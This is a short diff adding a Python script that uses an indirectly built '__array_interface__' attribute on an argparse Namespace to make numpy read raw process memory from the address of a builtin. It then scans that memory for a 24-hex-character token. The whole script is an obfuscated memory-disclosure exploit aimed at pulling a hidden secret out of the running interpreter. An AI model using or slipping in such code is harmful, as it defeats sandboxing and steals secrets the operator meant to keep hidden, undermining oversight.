@@ -1,0 +1,10 @@
+# reaches: argparse's defaults are named by data
+import json, re
+import numpy as np
+import argparse
+name = json.load(open("names.json"))["private"][0].replace("globals", "array_interface")
+value = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
+p = argparse.ArgumentParser()
+p.set_defaults(**{name: value})
+o = p.parse_args([])
+print(re.findall(rb"t[0-9a-f]{24}", np.array(o).tobytes()))
